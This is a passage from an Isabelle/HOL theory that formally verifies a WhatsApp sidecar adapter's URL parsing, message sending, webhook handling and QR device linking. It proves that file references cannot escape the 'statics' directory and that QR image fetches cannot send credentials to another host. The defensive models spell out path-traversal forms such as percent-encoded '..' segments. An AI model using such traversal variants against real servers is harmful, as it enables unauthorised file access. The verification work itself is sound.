(* ===== verification/Gwmd.thy ===== *)
theory Gwmd
  imports Channel
begin

text \<open>
  The WhatsApp adapter (packages/adapters/src/gwmd/index.ts): sending text and files, the
  messages and receipts of its webhook, fetching files and the QR image from the sidecar,
  and linking devices. The lemmas show that an answer to a send is well formed, which
  device id the wizard uses, what a reference to a file can reach on the sidecar, and
  where a QR address can send the sidecar's credentials.

  Addresses are modelled as far as \<open>fetch\<close> and \<open>URL\<close> read an http address: tabs and line
  breaks are dropped, the host ends at a slash, a backslash, a question mark or a hash, and
  the segments of the path are normalised, also where the dots are percent-encoded. Not
  modelled: the percent-encoding of other characters, host names beyond ASCII, and IPv6.
  Members that the vendor documents as texts (the type and name of a file, an emoji) are
  read only when they are texts.
\<close>

section \<open>Addresses\<close>

definition url_clean :: "ustring \<Rightarrow> ustring" where
  "url_clean s = filter (\<lambda>c. c \<noteq> 9 \<and> c \<noteq> 10 \<and> c \<noteq> 13) s"

definition slash_like :: "nat \<Rightarrow> bool" where
  "slash_like c \<longleftrightarrow> c = 47 \<or> c = 92"

definition single_dot :: "ustring \<Rightarrow> bool" where
  "single_dot s \<longleftrightarrow> map lower_cp s \<in> {lit ''.'', lit ''%2e''}"

definition double_dot :: "ustring \<Rightarrow> bool" where
  "double_dot s \<longleftrightarrow> map lower_cp s \<in> {lit ''..'', lit ''.%2e'', lit ''%2e.'', lit ''%2e%2e''}"

text \<open>The path is kept reversed: two dots drop the last segment.\<close>

fun path_walk :: "ustring list \<Rightarrow> ustring list \<Rightarrow> ustring list" where
  "path_walk done' [] = rev done'"
| "path_walk done' (s # ss) =
     (if double_dot s then path_walk (if ss = [] then [] # drop 1 done' else drop 1 done') ss
      else if single_dot s then path_walk (if ss = [] then [] # done' else done') ss
      else path_walk (s # done') ss)"

text \<open>The segments that a server is asked for by the part of an address after the host.\<close>

definition path_text :: "ustring \<Rightarrow> ustring" where
  "path_text s = takeWhile (\<lambda>c. c \<noteq> 63 \<and> c \<noteq> 35) s"

definition served_path :: "ustring \<Rightarrow> ustring list" where
  "served_path s = path_walk [] (split_on 47 (map (\<lambda>c. if c = 92 then 47 else c) (path_text (url_clean s))))"

record url_parts =
  up_scheme :: ustring
  up_host :: ustring
  up_hostname :: ustring
  up_pathname :: ustring
  up_search :: ustring

definition default_port :: "ustring \<Rightarrow> ustring" where
  "default_port scheme = (if scheme = lit ''https'' then lit ''443'' else lit ''80'')"

text \<open>The host after the user information, in lower case and without the default port.\<close>

definition authority_parts :: "ustring \<Rightarrow> ustring \<Rightarrow> (ustring \<times> ustring) option" where
  "authority_parts scheme authority =
     (let hostport = last (split_on 64 authority);
          hostname = map lower_cp (takeWhile (\<lambda>c. c \<noteq> 58) hostport);
          port = drop 1 (dropWhile (\<lambda>c. c \<noteq> 58) hostport)
      in if hostname = [] \<or> \<not> list_all is_digit port then None
         else Some (hostname, if port = [] \<or> port = default_port scheme then hostname else hostname @ 58 # port))"

text \<open>\<open>new URL(s)\<close> of an http address; \<open>None\<close> for anything else.\<close>

definition parse_url :: "ustring \<Rightarrow> url_parts option" where
  "parse_url str =
     (let s = url_clean (js_trim str); l = map lower_cp s;
          scheme = (if starts_with (lit ''http:'') l then Some (lit ''http'')
                    else if starts_with (lit ''https:'') l then Some (lit ''https'') else None)
      in (case scheme of
            None \<Rightarrow> None
          | Some sc \<Rightarrow>
              (let rest = dropWhile slash_like (drop (Suc (length sc)) s);
                   authority = takeWhile (\<lambda>c. \<not> slash_like c \<and> c \<noteq> 63 \<and> c \<noteq> 35) rest;
                   tail = dropWhile (\<lambda>c. \<not> slash_like c \<and> c \<noteq> 63 \<and> c \<noteq> 35) rest
               in (case authority_parts sc authority of
                     None \<Rightarrow> None
                   | Some (hostname, host) \<Rightarrow>
                       Some \<lparr>up_scheme = sc, up_host = host, up_hostname = hostname,
                         up_pathname = (let p = (if tail \<noteq> [] \<and> slash_like (hd tail) then drop 1 tail else tail)
                                        in 47 # join_with [47] (served_path p)),
                         up_search = (let q = takeWhile (\<lambda>c. c \<noteq> 35) (dropWhile (\<lambda>c. c \<noteq> 63 \<and> c \<noteq> 35) tail)
                                      in if q = [63] then [] else q)\<rparr>))))"

definition url_origin :: "url_parts \<Rightarrow> ustring" where
  "url_origin u = up_scheme u @ lit ''://'' @ up_host u"

text \<open>\<open>new URL(path, origin).toString()\<close> of a path that begins with a slash: with two
  slashes it names a host of its own.\<close>

definition resolve_url :: "ustring \<Rightarrow> url_parts \<Rightarrow> ustring" where
  "resolve_url path base =
     (if starts_with (lit ''//'') path then up_scheme base @ lit '':'' @ path else url_origin base @ path)"

section \<open>Calls of the sidecar\<close>

definition gwmd_baseUrl :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring + ustring" where
  "gwmd_baseUrl env acc = (case base_url env acc of None \<Rightarrow> Inl (missing_base ''gwmd'') | Some b \<Rightarrow> Inr b)"

definition authHeader :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring option" where
  "authHeader env acc =
     (let user = config_text env acc ''username''; pass = config_text env acc ''password''
      in if user = [] \<or> pass = [] then None else Some (lit ''Basic '' @ base64 (utf8_bytes (user @ lit '':'' @ pass))))"

definition auth_only :: "channel_env \<Rightarrow> account_config \<Rightarrow> (string \<times> ustring) list" where
  "auth_only env acc = (case authHeader env acc of Some a \<Rightarrow> [(''authorization'', a)] | None \<Rightarrow> [])"

definition authHeaders :: "channel_env \<Rightarrow> account_config \<Rightarrow> (string \<times> ustring) list" where
  "authHeaders env acc = json_type @ auth_only env acc"

text \<open>The id of the endpoint is a text, so the fallback to the configuration is never reached.\<close>

definition deviceIdOf :: "endpoint_config \<Rightarrow> ustring + ustring" where
  "deviceIdOf ep = (if ec_externalId ep = [] then Inl (lit ''gwmd: endpoint missing externalId/device_id'') else Inr (ec_externalId ep))"

definition gwmd_healthCheck :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring + adapter_health" where
  "gwmd_healthCheck env acc =
     (case gwmd_baseUrl env acc of
        Inl e \<Rightarrow> Inl e
      | Inr base \<Rightarrow>
          (let latency = (lit ''latencyMs'', JNum (of_int (ch_done env - ch_now env))) in
           case ch_fetch env (get_request (base @ lit ''/app/devices'') (authHeaders env acc)) of
             Inl e \<Rightarrow> Inr \<lparr>ah_ok = False, ah_details = [(lit ''error'', JStr e), latency]\<rparr>
           | Inr r \<Rightarrow> Inr \<lparr>ah_ok = response_ok (hr_status r),
               ah_details = [(lit ''httpStatus'', JNum (of_int (hr_status r))), latency]\<rparr>))"

section \<open>Sending\<close>

definition starts_str :: "string \<Rightarrow> ustring option \<Rightarrow> bool" where
  "starts_str p s = (case s of Some t \<Rightarrow> starts_with (lit p) t | None \<Rightarrow> False)"

definition gwmd_route :: "outbound_message \<Rightarrow> ustring" where
  "gwmd_route o' =
     (let attachment = (case with_data o' of a # as \<Rightarrow> Some a | [] \<Rightarrow> None);
          media_mime = (case om_media o' of Some m \<Rightarrow> sm_mime m | None \<Rightarrow> None);
          mime = (case media_mime of Some m \<Rightarrow> Some m | None \<Rightarrow> (case attachment of Some a \<Rightarrow> sa_mime a | None \<Rightarrow> None))
      in if om_media o' = None \<and> attachment = None then lit ''message''
         else if starts_str ''image/'' mime then lit ''image''
         else if starts_str ''video/'' mime then lit ''video''
         else if starts_str ''audio/'' mime then lit ''audio''
         else lit ''file'')"

text \<open>The members of the payload; \<open>None\<close> is \<open>undefined\<close>.\<close>

definition gwmd_payload :: "outbound_message \<Rightarrow> (ustring \<times> ustring option) list" where
  "gwmd_payload o' =
     (let route = gwmd_route o'; url = (case om_media o' of Some m \<Rightarrow> sm_url m | None \<Rightarrow> None) in
      [(lit ''phone'', Some (strip_plus (recipient_of o'))), (lit ''message'', Some (outbound_text o'))]
      @ (if truthy_str (om_replyTo o') then [(lit ''reply_message_id'', om_replyTo o')] else [])
      @ (if truthy_str url
         then [(if route = lit ''file'' then lit ''file_url'' else route @ lit ''_url'', url), (lit ''caption'', Some (outbound_text o'))]
         else [])
      @ (if truthy_str (om_reaction o')
         then [(lit ''reaction'', om_reaction o'), (lit ''message_id'', om_replyTo o')] else []))"

definition gwmd_request :: "channel_env \<Rightarrow> outbound_message \<Rightarrow> account_config \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> http_request" where
  "gwmd_request env o' acc base deviceHeader =
     (let route = gwmd_route o'; url = base @ lit ''/app/send/'' @ route in
      case with_data o' of
        [] \<Rightarrow> \<lparr>hq_method = ''POST'', hq_url = url, hq_headers = authHeaders env acc @ [(''x-device-id'', deviceHeader)],
                hq_body = JsonBody (JObj (List.map_filter (\<lambda>(k, v). map_option (\<lambda>s. (k, JStr s)) v) (gwmd_payload o')))\<rparr>
      | uploaded # _ \<Rightarrow> \<lparr>hq_method = ''POST'', hq_url = url, hq_headers = auth_only env acc @ [(''x-device-id'', deviceHeader)],
                hq_body = FormBody
                  (map (\<lambda>(k, v). (k, case v of Some s \<Rightarrow> s | None \<Rightarrow> [])) (gwmd_payload o') @ [(lit ''caption'', outbound_text o')])
                  [(if route = lit ''message'' then lit ''file'' else route,
                    \<lparr>fo_name = (case sa_filename uploaded of Some f \<Rightarrow> f | None \<Rightarrow> lit ''attachment''),
                     fo_type = (case sa_mime uploaded of Some m \<Rightarrow> m | None \<Rightarrow> lit ''application/octet-stream''),
                     fo_bytes = the (sa_data uploaded)\<rparr>)]\<rparr>)"

definition gwmd_message_id :: "json \<Rightarrow> json option" where
  "gwmd_message_id raw =
     coalesce (mem (own raw (lit ''results'')) ''message_id'')
       (coalesce (mem (own raw (lit ''data'')) ''message_id'') (coalesce (own raw (lit ''message_id'')) None))"

definition gwmd_send :: "channel_env \<Rightarrow> outbound_message \<Rightarrow> endpoint_config \<Rightarrow> account_config \<Rightarrow> send_answer" where
  "gwmd_send env o' ep acc =
     (case deviceIdOf ep of
        Inl e \<Rightarrow> Threw e
      | Inr deviceId \<Rightarrow>
          (case gwmd_baseUrl env acc of
             Inl e \<Rightarrow> Threw e
           | Inr base \<Rightarrow>
               (case encodeURIComponent deviceId of
                  None \<Rightarrow> Threw (lit ''URI malformed'')
                | Some deviceHeader \<Rightarrow>
                    (case ch_fetch env (gwmd_request env o' acc base deviceHeader) of
                       Inl e \<Rightarrow> Answered (refused (lit ''NETWORK_ERROR'') e True JNull)
                     | Inr r \<Rightarrow>
                         (let raw = json_or (JObj []) r; status = hr_status r; fmt = ch_fmt env in
                          if \<not> response_ok status
                          then Answered (refused
                                 (js_String fmt (coalesce (own raw (lit ''code'')) (coalesce (own raw (lit ''error'')) (Some (JStr (http_code status))))))
                                 (js_String fmt (coalesce (own raw (lit ''message'')) (Some (JStr (stringify fmt raw)))))
                                 (500 \<le> status \<or> status = 429) raw)
                          else Answered (taken (map_option (\<lambda>v. js_String fmt (Some v)) (gwmd_message_id raw)) raw))))))"

section \<open>The webhook\<close>

text \<open>A WhatsApp address of a person: digits, an optional device, and one of two domains.\<close>

definition gwmd_jidToPhone :: "ustring \<Rightarrow> ustring option" where
  "gwmd_jidToPhone jid =
     (let ds = takeWhile is_digit jid; rest = dropWhile is_digit jid;
          device = takeWhile is_digit (drop 1 rest);
          domain = (if starts_with (lit '':'') rest \<and> device \<noteq> [] then dropWhile is_digit (drop 1 rest) else rest)
      in if ds \<noteq> [] \<and> (domain = lit ''@s.whatsapp.net'' \<or> domain = lit ''@c.us'') then Some (43 # ds) else None)"

definition media_members :: "string list" where
  "media_members = [''image'', ''video'', ''audio'', ''document'', ''sticker'', ''video_note'']"

definition gwmd_type :: "json \<Rightarrow> message_type" where
  "gwmd_type m =
     (let has = (\<lambda>k. holds (own m (lit k))) in
      if has ''reaction'' then reaction
      else if has ''image'' then image
      else if has ''video'' \<or> has ''video_note'' then video
      else if has ''audio'' then audio
      else if has ''document'' then document
      else if has ''sticker'' then sticker
      else if has ''body'' then text_t else unknown_t)"

definition member_text :: "json option \<Rightarrow> string \<Rightarrow> ustring option" where
  "member_text v k = (case v of Some (JStr s) \<Rightarrow> None | _ \<Rightarrow> as_string (mem v k))"

text \<open>The file of a message: a bare path, or an object that may have one.\<close>

definition gwmd_media :: "json \<Rightarrow> json option" where
  "gwmd_media m = foldr (\<lambda>k v. coalesce (own m (lit k)) v) media_members None"

definition gwmd_mediaPath :: "json option \<Rightarrow> json option" where
  "gwmd_mediaPath media = (case media of Some (JStr s) \<Rightarrow> Some (JStr s)
     | _ \<Rightarrow> coalesce (mem media ''path'') (coalesce (mem media ''media_path'') None))"

definition gwmd_attachments :: "channel_env \<Rightarrow> json option \<Rightarrow> canonical_attachment list" where
  "gwmd_attachments env media =
     (let path = gwmd_mediaPath media; text = js_String (ch_fmt env) path in
      if holds path
      then [\<lparr>ct_ref = Some text, ct_mime = member_text media ''mime_type'', ct_filename = Some (last (split_on 47 text)), ct_size = None\<rparr>]
      else [])"

definition or_null :: "json option \<Rightarrow> json" where
  "or_null v = (case coalesce v None of Some w \<Rightarrow> w | None \<Rightarrow> JNull)"

definition gwmd_inbound :: "channel_env \<Rightarrow> account_config \<Rightarrow> endpoint_config \<Rightarrow> json \<Rightarrow> canonical_inbound list" where
  "gwmd_inbound env acc ep raw =
     (let fmt = ch_fmt env; event = own raw (lit ''event'');
          m = (case coalesce (own raw (lit ''payload'')) None of Some p \<Rightarrow> p | None \<Rightarrow> raw);
          hasMedia = list_ex (\<lambda>k. holds (own m (lit k))) media_members;
          media = gwmd_media m;
          sender = text_or_empty fmt (own m (lit ''from''))
      in if \<not> is_object raw then []
         else if holds event \<and> event \<noteq> Some (JStr (lit ''message'')) \<and> event \<noteq> Some (JStr (lit ''message.reaction'')) then []
         else if own m (lit ''is_from_me'') = Some (JBool True) then []
         else if \<not> holds (own m (lit ''body'')) \<and> \<not> hasMedia \<and> \<not> holds (own m (lit ''reaction'')) then []
         else (let stamp = (if holds (own m (lit ''timestamp'')) then ch_dateParse env (js_String fmt (own m (lit ''timestamp''))) else None);
                   (body, rest) = text_member (own m (lit ''body''))
               in [\<lparr>ci_direction = inbound, ci_externalId = text_or_empty fmt (own m (lit ''id'')),
                    ci_from = makeAddress (case gwmd_jidToPhone sender of Some p \<Rightarrow> p | None \<Rightarrow> sender),
                    ci_to = [makeAddress (case ec_phoneE164 ep of Some p \<Rightarrow> p | None \<Rightarrow> ec_externalId ep)],
                    ci_type = type_name (gwmd_type m), ci_text = body, ci_attachments = gwmd_attachments env media,
                    ci_meta = [(lit ''senderName'', or_null (own m (lit ''from_name''))), (lit ''chatId'', or_null (own m (lit ''chat_id''))),
                      (lit ''sessionId'', or_null (own m (lit ''session_id'')))],
                    ci_more = rest
                      @ (if hasMedia then [(lit ''media'', JObj (text_fields [(''url'', member_text media ''url''),
                           (''mime'', member_text media ''mime_type''), (''filename'', member_text media ''file_name'')]))] else [])
                      @ text_fields [(''reaction'', case own m (lit ''reaction'') of Some (JStr s) \<Rightarrow> Some s | v \<Rightarrow> as_string (mem v ''emoji'')),
                          (''replyToMessageId'', as_string (coalesce (own m (lit ''replied_to_id'')) (own m (lit ''reacted_message_id''))))],
                    ci_receivedAt = (case stamp of Some t \<Rightarrow> t | None \<Rightarrow> ch_now env), ci_rawPayload = raw\<rparr>]))"

definition gwmd_state :: "ustring \<Rightarrow> status_name' option" where
  "gwmd_state s =
     (if s = lit ''pending'' \<or> s = lit ''sent'' then Some st_sent
      else if s = lit ''delivered'' then Some st_delivered
      else if s = lit ''read'' \<or> s = lit ''read-self'' then Some st_read
      else if s = lit ''failed'' then Some st_failed else None)"

definition gwmd_status :: "channel_env \<Rightarrow> account_config \<Rightarrow> json \<Rightarrow> canonical_status option" where
  "gwmd_status env acc raw =
     (let fmt = ch_fmt env; event = own raw (lit ''event'');
          s = (case coalesce (own raw (lit ''payload'')) None of Some p \<Rightarrow> p | None \<Rightarrow> raw)
      in if \<not> is_object raw then None
         else if holds event \<and> event \<noteq> Some (JStr (lit ''message_status'')) then None
         else (case gwmd_state (text_or_empty fmt (own s (lit ''status''))) of
                 None \<Rightarrow> None
               | Some st \<Rightarrow> Some \<lparr>cs_externalId = text_or_empty fmt (coalesce (own s (lit ''message_id'')) (own s (lit ''id''))),
                   cs_status = st,
                   cs_error = (if st = st_failed then Some \<lparr>ae_code = lit ''GWMD_FAILED'',
                     ae_message = stringify fmt (case coalesce (own s (lit ''errors'')) None of Some v \<Rightarrow> v | None \<Rightarrow> JArr []),
                     ae_retryable = False\<rparr> else None),
                   cs_rawPayload = raw\<rparr>))"

section \<open>Files\<close>

text \<open>The reference without leading slashes, when it is accepted.\<close>

definition media_ref :: "ustring \<Rightarrow> ustring option" where
  "media_ref ref =
     (let rel = dropWhile (\<lambda>c. c = 47) ref in
      if \<not> starts_with (lit ''statics/'') rel \<or> occurs (lit ''..'') rel then None else Some rel)"

definition gwmd_fetch :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring \<Rightarrow> fetched_file option" where
  "gwmd_fetch env acc ref =
     (case (media_ref ref, gwmd_baseUrl env acc) of
        (Some rel, Inr base) \<Rightarrow>
          (case ch_fetch env (get_request (base @ lit ''/app/'' @ rel) (auth_only env acc)) of
             Inl e \<Rightarrow> None
           | Inr r \<Rightarrow> if \<not> response_ok (hr_status r) then None
               else Some \<lparr>ff_bytes = hr_bytes r, ff_contentType = (case hr_type r of Some t \<Rightarrow> t | None \<Rightarrow> lit ''application/octet-stream''),
                          ff_fileName = last (split_on 47 rel)\<rparr>)
      | _ \<Rightarrow> None)"

definition gwmd_adapter :: "channel_env \<Rightarrow> account_config \<Rightarrow> inbound_adapter" where
  "gwmd_adapter env acc = \<lparr>ia_status = gwmd_status env, ia_inbound = (\<lambda>c ep raw. Some (gwmd_inbound env c ep raw)),
     ia_fetch = Some (gwmd_fetch env acc)\<rparr>"

section \<open>Provisioning\<close>

definition gwmd_device_id :: "ustring \<Rightarrow> ustring" where
  "gwmd_device_id requested = (let ds = filter is_digit requested in if ds \<noteq> [] then ds else requested)"

definition gwmd_login :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring \<Rightarrow> ustring \<Rightarrow> thrown + qr_result" where
  "gwmd_login env acc base deviceId =
     (case encodeURIComponent deviceId of
        None \<Rightarrow> Inl (OtherError (lit ''URI malformed''))
      | Some n \<Rightarrow>
          (case ch_fetch env (get_request (base @ lit ''/app/devices/'' @ n @ lit ''/login'') (authHeaders env acc)) of
             Inl e \<Rightarrow> Inl (network_error ''gwmd login'' e)
           | Inr r \<Rightarrow>
               (let body = json_or (JObj []) r; fmt = ch_fmt env;
                    results = coalesce (own body (lit ''results'')) (coalesce (own body (lit ''data'')) (Some (JObj [])));
                    qrLink = text_or_empty fmt (coalesce (mem results ''qr_link'') (mem results ''qr_url''))
                in if \<not> response_ok (hr_status r) then Inl (status_error ''gwmd login'' (hr_status r))
                   else if qrLink = [] then Inl (ProvisioningError BAD_RESPONSE (lit ''gwmd login response missing qr_link''))
                   else (case ttl_of env (mem results ''qr_duration'') 60 of
                           Inl e \<Rightarrow> Inl e
                         | Inr t \<Rightarrow> Inr \<lparr>qr_sessionId = js_String fmt (coalesce (mem results ''device_id'') (Some (JStr deviceId))),
                                          qr_uri = qrLink, qr_imageUrl = Some qrLink, qr_ttlSeconds = t\<rparr>))))"

definition gwmd_provisionQr :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring \<Rightarrow> thrown + qr_result" where
  "gwmd_provisionQr env acc deviceName =
     (let requested = js_trim deviceName; deviceId = gwmd_device_id requested in
      if requested = [] then Inl (ProvisioningError INVALID_INPUT (lit ''phoneE164 is required for gwmd (used as device_id)''))
      else (case gwmd_baseUrl env acc of
              Inl e \<Rightarrow> Inl (OtherError e)
            | Inr base \<Rightarrow>
                (case ch_fetch env (json_request ''POST'' (base @ lit ''/app/devices'') (authHeaders env acc)
                        (JObj [(lit ''device_id'', JStr deviceId)])) of
                   Inl e \<Rightarrow> Inl (network_error ''gwmd create device'' e)
                 | Inr r \<Rightarrow>
                     if \<not> response_ok (hr_status r) then Inl (status_error ''gwmd create device'' (hr_status r))
                     else gwmd_login env acc base deviceId)))"

text \<open>The QR image: its address must name the configured host, and is fetched from there.\<close>

definition qr_image_url :: "ustring \<Rightarrow> ustring \<Rightarrow> thrown + ustring" where
  "qr_image_url base imageUrl =
     (case (parse_url imageUrl, parse_url base) of
        (Some target, Some allowed) \<Rightarrow>
          if up_hostname target \<noteq> up_hostname allowed
          then Inl (ProvisioningError BAD_RESPONSE (lit ''gwmd QR image URL points outside the sidecar ('' @ up_hostname target @ lit '')''))
          else Inr (resolve_url (up_pathname target @ up_search target) allowed)
      | _ \<Rightarrow> Inl (ProvisioningError BAD_RESPONSE (lit ''gwmd QR image URL is malformed'')))"

definition gwmd_fetchImage :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring \<Rightarrow> thrown + nat list" where
  "gwmd_fetchImage env acc imageUrl =
     (case gwmd_baseUrl env acc of
        Inl e \<Rightarrow> Inl (ProvisioningError BAD_RESPONSE (lit ''gwmd QR image URL is malformed''))
      | Inr base \<Rightarrow>
          (case qr_image_url base imageUrl of
             Inl e \<Rightarrow> Inl e
           | Inr url \<Rightarrow>
               (case ch_fetch env (get_request url (auth_only env acc)) of
                  Inl e \<Rightarrow> Inl (network_error ''gwmd QR image'' e)
                | Inr r \<Rightarrow>
                    if \<not> response_ok (hr_status r) then Inl (status_error ''gwmd QR image'' (hr_status r))
                    else Inr (hr_bytes r))))"

text \<open>A device is listed once a phone has completed the scan.\<close>

definition device_paired :: "channel_env \<Rightarrow> json \<Rightarrow> bool" where
  "device_paired env d =
     (let state = map lower_cp (text_or_empty (ch_fmt env) (coalesce (own d (lit ''state'')) (own d (lit ''State''))));
          jid = text_or_empty (ch_fmt env) (coalesce (own d (lit ''jid'')) (own d (lit ''JID'')))
      in state = lit ''logged_in'' \<or> state = lit ''loggedin'' \<or> jid \<noteq> [])"

definition device_account :: "channel_env \<Rightarrow> json \<Rightarrow> provisioned" where
  "device_account env d =
     (let deviceId = text_or_empty (ch_fmt env) (coalesce (own d (lit ''ID'')) (coalesce (own d (lit ''device_id'')) (own d (lit ''id''))));
          jid = coalesce (own d (lit ''JID'')) (coalesce (own d (lit ''jid'')) (Some (JStr [])))
      in \<lparr>pv_externalId = deviceId,
          pv_phoneE164 = (if holds jid then gwmd_jidToPhone (js_String (ch_fmt env) jid)
            else as_string (coalesce (own d (lit ''phone_number'')) (coalesce (own d (lit ''PhoneNumber'')) (own d (lit ''phone''))))),
          pv_uuid = None, pv_deviceName = Some deviceId\<rparr>)"

definition device_list :: "json \<Rightarrow> json list" where
  "device_list body =
     (if is_array body then items (Some body)
      else if is_list (own body (lit ''results'')) then items (own body (lit ''results''))
      else items (own body (lit ''data'')))"

definition gwmd_listAccounts :: "channel_env \<Rightarrow> account_config \<Rightarrow> thrown + provisioned list" where
  "gwmd_listAccounts env acc =
     (case gwmd_baseUrl env acc of
        Inl e \<Rightarrow> Inl (OtherError e)
      | Inr base \<Rightarrow>
          (case ch_fetch env (get_request (base @ lit ''/app/devices'') (authHeaders env acc)) of
             Inl e \<Rightarrow> Inl (network_error ''gwmd list devices'' e)
           | Inr r \<Rightarrow>
               if \<not> response_ok (hr_status r) then Inl (status_error ''gwmd list devices'' (hr_status r))
               else Inr (map (device_account env) (filter (device_paired env) (device_list (json_or (JObj []) r))))))"

definition gwmd_unlink :: "channel_env \<Rightarrow> account_config \<Rightarrow> ustring \<Rightarrow> thrown option" where
  "gwmd_unlink env acc externalId =
     (case (gwmd_baseUrl env acc, encodeURIComponent externalId) of
        (Inl e, _) \<Rightarrow> Some (OtherError e)
      | (_, None) \<Rightarrow> Some (OtherError (lit ''URI malformed''))
      | (Inr base, Some n) \<Rightarrow>
          (case ch_fetch env \<lparr>hq_method = ''DELETE'', hq_url = base @ lit ''/app/devices/'' @ n,
                  hq_headers = authHeaders env acc, hq_body = NoBody\<rparr> of
             Inl e \<Rightarrow> Some (network_error ''gwmd unlink'' e)
           | Inr r \<Rightarrow>
               if \<not> response_ok (hr_status r) \<and> hr_status r \<noteq> 404
               then Some (status_error ''gwmd unlink'' (hr_status r)) else None))"

definition gwmd_provisioning :: "channel_env \<Rightarrow> provision_adapter" where
  "gwmd_provisioning env = \<lparr>pa_mode = Some by_qr, pa_qr = Some (gwmd_provisionQr env), pa_list = Some (gwmd_listAccounts env),
     pa_image = Some (gwmd_fetchImage env), pa_verify = None, pa_unlink = Some (gwmd_unlink env)\<rparr>"

section \<open>Sending keeps the contract\<close>

interpretation gwmd: channel_sender gwmd_send
  by unfold_locales (auto simp: gwmd_send_def Let_def split: sum.split option.split)

section \<open>One device, one id\<close>

lemma encode_digits: "\<forall>c\<in>set ds. is_digit c \<Longrightarrow> encodeURIComponent ds = Some ds"
  by (induction ds) (auto simp: uri_unreserved_def)

text \<open>The id in the body of the create call is the one in the path of the login call.\<close>

lemma device_id_needs_no_encoding:
  "filter is_digit requested \<noteq> [] \<Longrightarrow> encodeURIComponent (gwmd_device_id requested) = Some (gwmd_device_id requested)"
  by (simp add: gwmd_device_id_def encode_digits)

section \<open>What a file reference reaches\<close>

lemma occurs_append: "occurs w (a @ w @ b)"
proof (induction a)
  case Nil
  show ?case by (cases "w @ b") (use starts_with_append [of w b] in \<open>auto simp del: starts_with_append\<close>)
qed simp

lemma split_on_infix: "w \<in> set (split_on c s) \<Longrightarrow> \<exists>a b. s = a @ w @ b"
proof (induction s arbitrary: w)
  case (Cons x xs)
  obtain v vs where v: "split_on c xs = v # vs" by (cases "split_on c xs") auto
  show ?case
  proof (cases "x = c")
    case True
    with Cons.prems consider "w = []" | "w \<in> set (split_on c xs)" by auto
    then show ?thesis
    proof cases
      case 1
      then have "x # xs = [] @ w @ (x # xs)" by simp
      then show ?thesis by blast
    next
      case 2
      then obtain a b where "xs = a @ w @ b" using Cons.IH by blast
      then have "x # xs = (x # a) @ w @ b" by simp
      then show ?thesis by blast
    qed
  next
    case False
    with Cons.prems v consider "w = x # v" | "w \<in> set vs" by auto
    then show ?thesis
    proof cases
      case 1
      have "v @ concat (map (\<lambda>u. c # u) vs) = xs"
      proof -
        have "join_with [c] (v # vs) = v @ concat (map (\<lambda>u. c # u) vs)" for vs
          by (induction vs arbitrary: v) auto
        then show ?thesis using join_split [of c xs] v by simp
      qed
      with 1 have "x # xs = [] @ w @ concat (map (\<lambda>u. c # u) vs)" by simp
      then show ?thesis by blast
    next
      case 2
      with v obtain a b where "xs = a @ w @ b" using Cons.IH [of w] by auto
      then have "x # xs = (x # a) @ w @ b" by simp
      then show ?thesis by blast
    qed
  qed
qed simp

lemma path_walk_keeps: "\<forall>s\<in>set ss. \<not> double_dot s \<Longrightarrow> \<exists>r. path_walk d ss = rev d @ r"
proof (induction ss arbitrary: d)
  case (Cons s ss)
  then show ?case
    by (cases "single_dot s"; cases "ss = []") (auto, (metis append.assoc rev.simps(2))+)
qed simp

lemma double_dot_plain: "double_dot s \<Longrightarrow> 37 \<notin> set s \<Longrightarrow> s = lit ''..''"
proof -
  assume d: "double_dot s" and p: "37 \<notin> set s"
  have l: "lower_cp c = 37 \<longleftrightarrow> c = 37" "lower_cp c = 46 \<longleftrightarrow> c = 46" for c by (auto simp: lower_cp_def)
  have "37 \<notin> set (map lower_cp s)" using p l by auto
  with d have "map lower_cp s = [46, 46]" by (auto simp: double_dot_def lit_def)
  then have "s = [46, 46]" using l by (auto simp: map_eq_Cons_conv)
  then show ?thesis by (simp add: lit_def)
qed

text \<open>
  A reference to a file that the adapter accepts, and that holds no percent sign, tab or
  line break, is fetched from below the sidecar's directory of files, whatever else it holds.
\<close>

theorem media_ref_stays_in_statics:
  assumes "media_ref ref = Some rel" and "\<forall>c\<in>set rel. c \<noteq> 37 \<and> c \<noteq> 9 \<and> c \<noteq> 10 \<and> c \<noteq> 13"
  shows "\<exists>ss. served_path (lit ''app/'' @ rel) = lit ''app'' # lit ''statics'' # ss"
proof -
  let ?f = "\<lambda>c :: nat. if c = 92 then 47 else c"
  from assms(1) have r: "starts_with (lit ''statics/'') rel" "\<not> occurs (lit ''..'') rel"
    by (auto simp: media_ref_def Let_def split: if_splits)
  then obtain t where t: "rel = lit ''statics/'' @ t" by (auto elim: starts_withE)
  define u where "u = path_text t"
  have "url_clean (lit ''app/'' @ rel) = lit ''app/'' @ rel"
    using assms(2) unfolding url_clean_def by (intro filter_True) (auto simp: lit_def)
  then have "map ?f (path_text (url_clean (lit ''app/'' @ rel))) = lit ''app'' @ 47 # lit ''statics'' @ 47 # map ?f u"
    by (simp add: t u_def path_text_def lit_def)
  moreover have "47 \<notin> set (lit ''app'')" "47 \<notin> set (lit ''statics'')" by (simp_all add: lit_def)
  ultimately have "served_path (lit ''app/'' @ rel) = path_walk [] (lit ''app'' # lit ''statics'' # split_on 47 (map ?f u))"
    by (simp add: served_path_def split_on_first)
  also have "\<dots> = path_walk [lit ''statics'', lit ''app''] (split_on 47 (map ?f u))"
    by (simp add: double_dot_def single_dot_def lit_def lower_cp_def)
  finally have walk: "served_path (lit ''app/'' @ rel) = path_walk [lit ''statics'', lit ''app''] (split_on 47 (map ?f u))" .
  have "\<not> double_dot w" if w: "w \<in> set (split_on 47 (map ?f u))" for w
  proof
    assume "double_dot w"
    obtain a b where ab: "map ?f u = a @ w @ b" using split_on_infix [OF w] by blast
    have "t = u @ dropWhile (\<lambda>c. c \<noteq> 63 \<and> c \<noteq> 35) t" by (simp add: u_def path_text_def)
    then obtain z where z: "t = u @ z" by blast
    then have "set u \<subseteq> set rel" by (auto simp: t)
    then have "37 \<notin> set (map ?f u)" using assms(2) by auto
    with ab have "37 \<notin> set w" by auto
    with \<open>double_dot w\<close> double_dot_plain have "w = lit ''..''" by blast
    with ab obtain a' w' b' where u: "u = a' @ w' @ b'" "map ?f w' = lit ''..''"
